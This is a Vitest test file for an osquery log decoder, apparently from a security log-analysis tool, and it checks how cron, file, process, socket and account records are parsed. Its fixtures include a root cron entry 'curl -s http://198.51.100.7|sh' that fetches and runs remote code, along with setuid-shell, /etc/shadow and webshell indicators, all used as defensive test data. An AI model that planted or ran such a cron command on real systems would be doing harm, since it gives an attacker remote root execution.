import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { contentOf, decodeContent, placesOf } from '../../../../tests/support/decode-content.ts';
import { parseIsoMicros } from '../../../base/time.ts';
import { source } from './index.ts';

const sample = readFileSync(new URL('testdata/osqueryd.results.log', import.meta.url));
const lines = sample.toString('utf8').split('\n');

describe('osquery, detect', () => {
  it.each([
    ['rows', lines[0] ?? ''],
    ['a batch', lines[2] ?? ''],
    ['a snapshot', lines[4] ?? ''],
    ['a status record', lines[12] ?? ''],
    [
      'a batch with many rows before its name',
      `{"diffResults":{"added":[${'{"a":"1"},'.repeat(2000)}{}]},"hostIdentifier":`,
    ],
  ])('knows %s', (_what, content) => {
    expect(source.detect('x', Buffer.from(content))).toBe('certain');
  });

  it('takes a long batch that does not end in what is seen for likely', () => {
    expect(source.detect('x', Buffer.from(`{"diffResults":{"added":[${'{"a":"1"},'.repeat(5000)}`))).toBe('likely');
  });

  it.each(['', '{}', '{"name":"x","columns":{}}', '{"severity":1,"message":"x"}'])('does not know %j', (content) => {
    expect(source.detect('osqueryd.results.log', Buffer.from(content))).toBeUndefined();
  });
});

describe('osquery, decode', () => {
  it('takes the first run for an inventory, and later rows for changes', async () => {
    const { events, problems } = await decodeContent(source, sample);
    expect(problems).toEqual([]);
    expect(contentOf(events[0])).toMatchObject({
      kind: 'scheduled_task',
      time: parseIsoMicros('2026-03-01T10:00:00Z'),
      event_dataset: 'osquery.crontab',
      host_name: 'node1',
      event_action: 'listed',
      task_name: '/etc/cron.d/x1',
      task_command: 'root curl -s http://198.51.100.7|sh',
      fields: { epoch: 0, counter: 0, numerics: false, decorations: { role: 'web' }, action: 'added' },
    });
    expect(contentOf(events[1])).toMatchObject({
      kind: 'scheduled_task',
      event_action: 'created',
      task_type: 'task',
      task_name: '/etc/cron.d/x1',
      task_command: 'root curl -s http://198.51.100.7|sh',
      task_trigger: '*/5 * * * *',
      fields: { counter: 1 },
    });
  });

  it('takes set-id programs for files with these bits, and of an inventory other rows for what they are', async () => {
    const row = (counter: number, columns: object): string =>
      JSON.stringify({ name: 'q', hostIdentifier: 'h', unixTime: 1, counter, action: 'added', columns });
    const suid = { path: '/var/tmp/.x/sh', username: 'root', groupname: 'root', permissions: 'S' };
    const content = [row(0, suid), row(1, suid), row(0, { username: 'a', uid: '0', shell: '/bin/sh' })].join('\n');
    const { events } = await decodeContent(source, content);
    const file = { kind: 'file_access', file_path: '/var/tmp/.x/sh', file_mode: '4000', user_name: 'root' };
    expect(events.map(contentOf)).toMatchObject([
      { ...file, event_action: 'listed' },
      { ...file, event_action: 'attribute' },
      { kind: 'log' },
    ]);
  });

  it('gives an event for each row of a batch and a snapshot, with the number of the line', async () => {
    const { events } = await decodeContent(source, sample);
    expect(events.slice(2, 7)).toMatchObject([
      { kind: 'user_session', event_action: 'account-deleted', target_user_name: 'bob', evidence_at: 3 },
      { kind: 'user_session', event_action: 'account-created', target_user_name: 'mallory', target_user_id: '1002' },
      { kind: 'user_session', event_action: 'account-created', target_user_name: 'eve', evidence_at: 3 },
      { kind: 'log', event_dataset: 'osquery.mounts', evidence_at: 5 },
      { kind: 'log', event_dataset: 'osquery.mounts', evidence_at: 5 },
    ]);
  });

  it('reads rows of tables as what they are', async () => {
    const { events } = await decodeContent(source, sample);
    expect(events.slice(7)).toMatchObject([
      {
        kind: 'file_access',
        time: 1_772_359_100_000_000,
        event_action: 'write',
        file_path: '/etc/shadow',
        file_mode: '0640',
        file_group_id: 42,
        file_hash_sha256: 'ab'.repeat(32),
      },
      {
        kind: 'process',
        event_action: 'exec',
        process_pid: 4711,
        process_name: 'curl',
        process_command_line: 'curl -s x',
        process_parent_pid: 4700,
        login_id: -1,
      },
      {
        kind: 'socket',
        event_action: 'connect',
        event_outcome: 'success',
        destination_ip: '198.51.100.7',
        destination_port: 443,
        source_ip: null,
        source_port: null,
        network_transport: 'tcp',
        socket_family: 'inet',
      },
      { kind: 'socket', event_action: 'listen', source_ip: '0.0.0.0', source_port: 31_337, process_pid: 99 },
      { kind: 'kernel_module', event_action: 'load', module_name: 'evil' },
      { kind: 'user_session', event_action: 'login', target_user_name: 'anna', source_host: '203.0.113.9' },
      { kind: 'alert', rule_name: 'Webshell', file_path: '/tmp/x', count: 1 },
      { kind: 'log', event_dataset: 'osquery.status', log_level: 'warning', message: 'no such table' },
    ]);
  });

  it('reads the time of versions without a number', async () => {
    const line = JSON.stringify({
      name: 'a',
      hostIdentifier: 'h',
      calendarTime: 'Sun Mar  1 10:00:00 2026 UTC',
      columns: {},
    });
    const { events } = await decodeContent(source, line);
    expect(events[0]?.time).toBe(parseIsoMicros('2026-03-01T10:00:00Z'));
  });

  it('reports what is no result, and reads on', async () => {
    const { events, problems } = await decodeContent(
      source,
      `{"a":1}\n{"name":"x","columns":[]}\n{"snapshot":[7],"unixTime":"x"}\n${lines[1]}\n{"name":"`,
    );
    expect(events.map(({ kind, time }) => [kind, time > 0])).toEqual([
      ['log', false],
      ['scheduled_task', true],
    ]);
    expect(placesOf(problems)).toEqual([
      ['bad-record', 1],
      ['bad-record', 2],
      ['bad-value', 3],
      ['truncated', 5],
    ]);
  });
});
